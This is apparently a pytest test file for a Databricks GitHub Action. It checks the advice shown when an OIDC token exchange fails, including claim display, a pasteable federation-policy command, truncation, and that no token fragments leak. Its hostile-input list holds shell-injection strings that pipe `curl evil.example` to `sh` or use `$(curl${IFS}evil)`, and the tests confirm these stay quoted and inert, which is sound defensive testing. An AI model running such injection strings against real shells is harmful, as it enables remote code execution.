"""The words of a sign-in that fails."""

from __future__ import annotations

import json
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dlt_action.core.exchange import Rejected
from dlt_action.core.model import Json
from dlt_action.core.reply import SignInProblem
from dlt_action.core.signin import advice
from dlt_action.core.signin.identities import GitHub, Variable
from dlt_action.core.signin.schemes import Federation, Memory
from dlt_action.core.text import one_line
from tests.core.signin.flows import play
from tests.core.signin.replies import (
    CONFIG,
    HOST,
    OAUTH,
    TOKEN_URL,
    answer,
    jwt,
    refused,
)
from tests.oracles.hostile import EVERYTHING

ISSUER = "https://token.actions.githubusercontent.com"
SUBJECT = "repo:octo-org/octo-repo:ref:refs/heads/main"
CLAIMS: dict[str, Json] = {
    "iss": ISSUER,
    "sub": SUBJECT,
    "aud": TOKEN_URL,
    "repository_owner_id": "65",
    "repository_id": "74",
}
NO = Rejected(status=400, error_code="invalid_grant", message="no policy fits")


def mismatch(
    told: advice.Claims, audience: str | None = TOKEN_URL, client: str | None = "app-id"
) -> SignInProblem:
    return advice.exchange_refused(told, audience, client)(NO)


def test_the_claims_are_shown_that_a_policy_has_to_fit() -> None:
    problem = mismatch(CLAIMS)
    assert problem.paste.splitlines()[:4] == [
        f"issuer (iss): {ISSUER}",
        f"subject (sub): {SUBJECT}",
        f"audience (aud): {TOKEN_URL}",
        f"the subject in GitHub's other format: {NEW}",
    ]
    assert "application id app-id needs a federation policy of its own" in (
        problem.advice
    )


def command(problem: SignInProblem) -> list[str]:
    """The words of the command that is there to be pasted."""
    *_, title, line = problem.paste.splitlines()
    assert title == "a policy that fits:"
    return shlex.split(line)


def test_a_policy_that_fits_can_be_pasted() -> None:
    *words, policy = command(mismatch(CLAIMS))
    assert words == [
        "databricks",
        "account",
        "service-principal-federation-policy",
        "create",
        "NUMERIC_ID",
        "--json",
    ]
    assert json.loads(policy) == {
        "oidc_policy": {"issuer": ISSUER, "audiences": [TOKEN_URL], "subject": SUBJECT}
    }


def test_who_gave_no_client_id_is_told_that_one_may_be_missing() -> None:
    problem = mismatch(CLAIMS, client=None)
    assert problem.advice.startswith("client-id was not given")
    assert problem.paste == mismatch(CLAIMS).paste


@pytest.mark.parametrize("told", ["other", ["other", "more"], None, 7])
def test_an_audience_that_was_asked_for_and_not_given_is_told(told: Json) -> None:
    lines = mismatch({**CLAIMS, "aud": told}).paste.splitlines()
    assert f"audience that was asked for: {TOKEN_URL}" in lines


@pytest.mark.parametrize("told", [TOKEN_URL, [TOKEN_URL], ["other", TOKEN_URL]])
def test_an_audience_that_was_given_is_not_asked_about(told: Json) -> None:
    assert "asked for" not in mismatch({**CLAIMS, "aud": told}).paste


@pytest.mark.parametrize(
    ("told", "audiences"),
    [("theirs", ["theirs"]), (["a", "b"], ["a", "b"]), (list("abcde"), list("abcde"))],
)
def test_where_the_ci_chooses_the_audience_the_policy_takes_it(
    told: Json, audiences: list[str]
) -> None:
    problem = mismatch({**CLAIMS, "aud": told}, audience=None)
    assert json.loads(command(problem)[-1])["oidc_policy"]["audiences"] == audiences
    assert "asked for" not in problem.paste


UNFIT: list[dict[str, Json]] = [
    {"iss": None},
    {"iss": ""},
    {"iss": 7},
    {"sub": None},
    {"sub": ["a"]},
    {"sub": "a\nb"},
    {"sub": "a" * 301},
    {"sub": "\u202ea"},
    {"aud": None},
    {"aud": []},
    {"aud": ["a", 7]},
    {"aud": ["a", ""]},
    {"aud": list("abcdef")},
    {"aud": "a\tb"},
]


@pytest.mark.parametrize("told", UNFIT)
def test_no_policy_is_made_that_would_look_right_and_not_fit(
    told: dict[str, Json],
) -> None:
    plain: dict[str, Json] = {"iss": "i", "sub": "s", "aud": "a"}
    assert "databricks account" in mismatch(plain, audience=None).paste
    assert "databricks account" not in mismatch({**plain, **told}, audience=None).paste


def test_no_policy_is_made_up_for_a_token_that_says_nothing() -> None:
    assert mismatch({}).paste.splitlines() == [
        "issuer (iss): null",
        "subject (sub): null",
        "audience (aud): null",
        f"audience that was asked for: {TOKEN_URL}",
    ]


OLD = "repo:octo-org/octo-repo:ref:refs/heads/main"
NEW = "repo:octo-org@65/octo-repo@74:ref:refs/heads/main"
IDS: dict[str, Json] = {"repository_owner_id": "65", "repository_id": "74"}


@pytest.mark.parametrize(
    ("told", "other"),
    [
        ({"sub": OLD, **IDS}, NEW),
        ({"sub": NEW}, OLD),
        ({"sub": NEW, **IDS}, OLD),
        ({"sub": "repo:o@1/n@2:environment:a@b"}, "repo:o/n:environment:a@b"),
        ({"sub": "repo:o/n:pull_request", **IDS}, "repo:o@65/n@74:pull_request"),
        ({"sub": OLD}, None),
        ({"sub": OLD, "repository_id": "74"}, None),
        ({"sub": OLD, "repository_owner_id": 65, "repository_id": 74}, None),
        ({"sub": OLD, "repository_owner_id": "x", "repository_id": "74"}, None),
        ({"sub": "repo:octo-org", **IDS}, None),
        ({"sub": "project_path:g/p:ref_type:branch:ref:main", **IDS}, None),
        ({"sub": f"{OLD}\nx", **IDS}, None),
        ({"sub": 7, **IDS}, None),
        ({}, None),
    ],
)
def test_a_subject_of_github_is_shown_in_its_other_format_too(
    told: dict[str, Json], other: str | None
) -> None:
    assert advice.other_subject(told) == other
    shown = f"the subject in GitHub's other format: {other}"
    assert (shown in mismatch(told).paste.splitlines()) == (other is not None)


HOSTILE = [*EVERYTHING, "a\n" * 5_000, "`" * 10_000, "'; curl evil.example | sh; '"]


def lines_of(text: str) -> int:
    lines = text.splitlines()
    assert lines == text.split("\n")
    assert all(len(line) < 6_000 for line in lines)
    return len(lines)


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("claim", ["iss", "sub", "aud"])
def test_a_hostile_claim_stays_one_short_line(claim: str, hostile: str) -> None:
    plain: dict[str, Json] = {"iss": "i", "sub": "s", "aud": "a"}
    in_a_list: list[Json] = [hostile, {hostile: [hostile]}]
    for value in (hostile, in_a_list):
        problem = mismatch({**plain, claim: value}, audience=None)
        # Three claims; a blank, a title and the command, if one can be made of them.
        assert lines_of(problem.paste) in (3, 6)
        assert lines_of(problem.advice) == 1


def test_a_long_claim_is_cut_and_the_cut_shows() -> None:
    problem = mismatch({**CLAIMS, "sub": "x" * 10_000}, client="y" * 10_000)
    assert f"subject (sub): {'x' * 299}…" in problem.paste.splitlines()
    assert f" {'y' * 99}… " in problem.advice


NAMES = st.text(min_size=1).filter(lambda text: one_line(text, 300) == text)


@given(NAMES, NAMES, NAMES)
def test_what_is_pasted_is_one_argument_whatever_a_branch_is_called(
    issuer: str, subject: str, audience: str
) -> None:
    told: dict[str, Json] = {"iss": issuer, "sub": subject, "aud": audience}
    *words, policy = command(mismatch(told, audience=None))
    assert len(words) == 6
    assert json.loads(policy)["oidc_policy"] == {
        "issuer": issuer,
        "audiences": [audience],
        "subject": subject,
    }


def test_a_subject_with_a_quote_is_pasted_as_it_is() -> None:
    branch = "repo:o/n:ref:refs/heads/it's;$(curl${IFS}evil)`x`"
    policy = json.loads(command(mismatch({**CLAIMS, "sub": branch}))[-1])
    assert policy["oidc_policy"]["subject"] == branch


def test_a_token_for_thousands_of_audiences_is_told_in_short_lines() -> None:
    audiences: list[Json] = [f"audience-{number}" for number in range(5_000)]
    told: dict[str, Json] = {"iss": "i", "sub": "s", "aud": audiences}
    assert lines_of(mismatch(told, audience=None).paste) == 3


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_ids_and_causes_stay_one_short_line(hostile: str) -> None:
    rejected = Rejected(status=401, error_code=None, message=hostile)
    for problem in (
        advice.secret_refused(hostile)(rejected),
        advice.no_github_identity(rejected),
        advice.no_azure_devops_identity(rejected),
        advice.unreadable_file(hostile),
    ):
        assert lines_of(problem.advice) == lines_of(problem.what) == 1
    entra = advice.entra_refused(hostile, hostile)(rejected)
    assert lines_of(entra.advice) == 1
    assert lines_of(mismatch(CLAIMS, client=hostile).advice) == 1


@given(st.text(), st.text())
def test_what_failed_is_said_in_our_words_alone(code: str, message: str) -> None:
    def whats(rejected: Rejected) -> list[str]:
        return [
            explain(rejected).what
            for explain in (
                advice.secret_refused("app-id"),
                advice.exchange_refused(CLAIMS, TOKEN_URL, None),
                advice.entra_refused("app-id", "tenant"),
                advice.no_github_identity,
                advice.no_azure_devops_identity,
            )
        ]

    theirs = Rejected(status=400, error_code=code, message=message)
    assert whats(theirs) == whats(Rejected(status=400, error_code=None, message=""))


def pieces(token: str, length: int = 12) -> set[str]:
    """All runs of so many letters in the parts of *token*."""
    return {
        part[begin : begin + length]
        for part in token.split(".")
        for begin in range(len(part) - length + 1)
    }


@pytest.mark.parametrize("given_by_github", [True, False])
@given(
    told=st.dictionaries(st.sampled_from(["iss", "sub", "aud", "jti", "x"]), st.text())
)
def test_no_part_of_a_token_is_in_any_advice(
    told: dict[str, Json], *, given_by_github: bool
) -> None:
    identity = jwt(**told)
    github = GitHub("https://run.test/id", "request.token.0123456789")
    variable = Variable("DATABRICKS_OIDC_TOKEN", identity)
    scheme = Federation(identity=github if given_by_github else variable)
    value = [answer(200, {"value": identity})] if given_by_github else []
    came = (CONFIG, OAUTH, *value, refused(400, "invalid_grant", "no"))
    problem = play(
        scheme.flow(HOST, Memory()), *came, given=("request.token.0123456789",)
    ).problem
    shown = f"{problem.what}\n{problem.advice}\n{problem.said}\n{problem.paste}"
    assert [piece for piece in pieces(identity) if piece in shown] == []
    assert "0123456789" not in shown


def test_a_gateway_is_told_to_pass_documents_on_with_its_own_address() -> None:
    problem = advice.foreign_endpoint()
    assert "was given nothing" in problem.what
    assert "its own address" in problem.advice
